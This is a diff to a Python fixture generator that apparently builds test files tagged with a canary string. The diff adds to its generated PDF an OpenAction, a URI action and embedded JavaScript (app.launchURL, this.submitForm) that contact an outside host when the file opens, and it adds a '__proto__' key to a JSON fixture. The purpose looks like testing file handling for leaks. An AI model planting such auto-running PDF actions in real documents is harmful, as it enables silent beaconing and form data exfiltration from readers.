@@ -37,15 +37,20 @@ def _chunk(name: bytes, body: bytes) -> bytes:
 
 
 def pdf(words: str) -> bytes:
-    """A PDF of one page."""
+    """A PDF of one page, which would open another page, and send something there."""
+    script = f"app.launchURL('{OUTSIDE}'); this.submitForm('{OUTSIDE}'); app.alert('x')"
+    script = script.replace("(", r"\(").replace(")", r"\)")
     drawn = f"BT /F1 18 Tf 20 120 Td ({words}) Tj ET".encode()
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R"
+    page += b" /Resources << /Font << /F1 5 0 R >> >> >>"
     parts = [
-        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources"
-         b" << /Font << /F1 5 0 R >> >> >>",
+        page,
         b"<< /Length %d >>\nstream\n%s\nendstream" % (len(drawn), drawn),
         b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+        b"<< /S /URI /URI (%s) /Next 7 0 R >>" % OUTSIDE.encode(),
+        b"<< /S /JavaScript /JS (%s) >>" % script.encode(),
     ]
     out, places = b"%PDF-1.4\n", []
     for number, part in enumerate(parts, 1):
@@ -160,7 +165,7 @@ def files() -> dict[str, bytes]:
         "greet.py": f'def greet(name: str):\n    """Say {CANARY}"""\n    return f"hi {{name}}"\n',
         "change.diff": "--- a\n+++ b\n@@ -1 +1 @@\n-old\n+new\n",
         "donors.csv": f"name,amount\n{CANARY},1\n"
-        + "".join(f"donor {n},{n}\n" for n in range(500)),
+        + "".join(f"donor {n},{n}\n" for n in range(120)),
         "tree.json": json.dumps(
             {CANARY: [1, 2.50, None, True, {"deep": "x" * 1500}], "__proto__": {}}
         ),
